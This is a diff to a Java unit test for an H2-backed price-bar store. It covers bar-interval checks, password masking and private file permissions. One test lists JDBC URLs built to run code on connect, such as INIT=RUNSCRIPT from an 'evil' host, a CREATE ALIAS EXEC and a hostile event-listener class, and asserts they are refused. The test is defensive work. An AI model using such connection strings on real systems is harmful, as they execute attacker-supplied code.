@@ -137,6 +137,9 @@ class H2BarStoreTest {
         Path aapl = StoreFixtures.copySample("aapl-2013.csv", dir, "aapl.csv");
         assertThatThrownBy(() -> importFile(aapl, "AAPL", Duration.ofHours(5))).isInstanceOf(DataException.class)
             .hasMessageContaining("--bar 5h does not match").hasMessageContaining("1d apart");
+        // issue 16: daily bars are not stored as hourly ones (1d is a multiple of 1h, but no two bars are an hour apart)
+        assertThatThrownBy(() -> importFile(aapl, "AAPL", Duration.ofHours(1))).isInstanceOf(DataException.class)
+            .hasMessageContaining("--bar 1h contradicts").hasMessageContaining("no two of its bars are closer than 1d");
         assertThat(store.list()).isEmpty();
     }
 
@@ -195,9 +198,17 @@ class H2BarStoreTest {
     void urlsThatCanRunCodeOnConnectAreRefused() {
         for (String url : new String[] {"jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
             "jdbc:h2:file:/tmp/x;init = runscript from 'x'", "jdbc:h2:file:/tmp/x;AUTO_SERVER=TRUE",
-            "jdbc:h2:mem:x;INIT=CREATE ALIAS EXEC AS 'x'"})
+            "jdbc:h2:mem:x;INIT=CREATE ALIAS EXEC AS 'x'",
+            "jdbc:h2:file:/tmp/x;DATABASE_EVENT_LISTENER='org.example.Evil'",     // loads and runs a class
+            "jdbc:h2:tcp://localhost:9092/~/x", "jdbc:h2:ssl://evil.example/x", "jdbc:h2:zip:/tmp/x.zip!/x",
+            "jdbc:h2:file:/tmp/x;ACCESS_MODE_DATA=r;INIT=x", "jdbc:h2:file:/tmp/x;FILE_LOCK=SERIALIZED",
+            "jdbc:postgresql://db.example/bars", "jdbc:sqlite:/tmp/x.db"})
             assertThatThrownBy(() -> StoreLocation.resolve(url)).as(url).isInstanceOf(ConfigException.class)
-                .hasMessageStartingWith("database URL refused");
+                .hasMessageStartingWith("database URL ").hasMessageContaining(" refused: ");
+        assertThat(StoreLocation.resolve("jdbc:h2:file:/tmp/x;USER=sa;password=secret").display())
+            .isEqualTo("jdbc:h2:file:/tmp/x;USER=sa;password=****");
+        assertThatThrownBy(() -> StoreLocation.resolve("jdbc:postgresql://db.example/bars"))
+            .hasMessageContaining("only H2 bar stores are supported");
         assertThatThrownBy(() -> StoreLocation.resolve("/tmp/x;AUTO_SERVER=TRUE")).isInstanceOf(ConfigException.class)
             .hasMessageContaining("contains ';'");
     }
@@ -206,11 +217,11 @@ class H2BarStoreTest {
     void theStoreIsFoundFromTheOptionThenTheEnvironmentThenTheHomeDirectory() {
         Path home = dir.resolve("home");
         assertThat(StoreLocation.resolve(null, Map.of(), home).jdbcUrl())
-            .isEqualTo("jdbc:h2:file:" + home.resolve(".ibex/ibex").toAbsolutePath() + ";WRITE_DELAY=0");
+            .isEqualTo("jdbc:h2:file:" + home.resolve(".ibex/ibex").toAbsolutePath() + ";WRITE_DELAY=0;TRACE_LEVEL_FILE=0");
         assertThat(StoreLocation.resolve(null, Map.of("IBEX_DB", "/data/bars.mv.db"), home).jdbcUrl())
-            .isEqualTo("jdbc:h2:file:/data/bars;WRITE_DELAY=0");
+            .isEqualTo("jdbc:h2:file:/data/bars;WRITE_DELAY=0;TRACE_LEVEL_FILE=0");
         assertThat(StoreLocation.resolve("jdbc:h2:mem:t", Map.of("IBEX_DB", "/data/bars"), home).jdbcUrl())
-            .isEqualTo("jdbc:h2:mem:t;WRITE_DELAY=0");
+            .isEqualTo("jdbc:h2:mem:t;WRITE_DELAY=0;TRACE_LEVEL_FILE=0");
     }
 
     @Test
@@ -232,5 +243,12 @@ class H2BarStoreTest {
     private String lowOnLine(int line) throws IOException {
         return String.valueOf(Double.parseDouble(Files.readAllLines(dir.resolve("aapl-src.csv")).get(line - 1)
             .split(",")[3]));
+    }
+
+    @Test void theStoreFileAndTheDirectoryItCreatesArePrivate() throws Exception {
+        assertThat(java.nio.file.attribute.PosixFilePermissions.toString(java.nio.file.Files.getPosixFilePermissions(
+            dir.resolve("db/ibex.mv.db")))).isEqualTo("rw-------");
+        assertThat(java.nio.file.attribute.PosixFilePermissions.toString(java.nio.file.Files.getPosixFilePermissions(
+            dir.resolve("db")))).isEqualTo("rwx------");
     }
 }
